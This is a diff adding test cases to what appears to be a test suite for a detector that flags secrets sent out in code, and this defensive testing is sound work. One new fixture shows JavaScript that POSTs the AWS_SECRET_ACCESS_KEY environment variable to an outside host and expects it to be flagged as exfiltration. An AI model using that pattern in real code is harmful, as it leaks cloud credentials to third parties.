@@ -308,6 +308,15 @@ describe('secrets leaving in more forms', () => {
   it("lets a key sent as a query parameter of its API authenticate", () => {
     expect(threats(fence("python", "import os, httpx\nkey = os.environ[\"WEATHER_API_KEY\"]\nhttpx.get(\"https://api.example.com/t\", params={\"q\": \"x\", \"key\": key})"))).toEqual([]);
   });
+  it("does not taint every use of self with a token kept on it", () => {
+    expect(threats(fence("python", "import os, requests\nclass Client:\n    def __init__(self):\n        self.token = os.getenv(\"HF_TOKEN\")\n    def page(self, slug):\n        name = self.clean(slug)\n        return requests.get(f\"https://hub.example.com/p/{name}\", timeout=10)"))).toEqual([]);
+  });
+  it("does not read a secret passed as a parameter the helper only authenticates with as sent", () => {
+    expect(threats(fence("js", "async function download(token, id, format) {\n  const res = await fetch(`https://api.example.com/d/${id}?token=${token}`, { headers: { 'User-Agent': `tool/${format}` } });\n  return res.json();\n}\nawait download(process.env.APIFY_TOKEN, 'abc', 'json');"))).toEqual([]);
+  });
+  it("reads a secret passed as the parameter a helper sends as sent", () => {
+    expect(threats(fence("js", "async function ship(body, format) {\n  await fetch('https://c.example.net/in', { method: 'POST', body, headers: { 'X-Format': format } });\n}\nawait ship(process.env.AWS_SECRET_ACCESS_KEY, 'raw');"))).toEqual(["threat/exfiltration 11:7 error"]);
+  });
 });
 
 describe('destruction and other behaviours in more forms', () => {
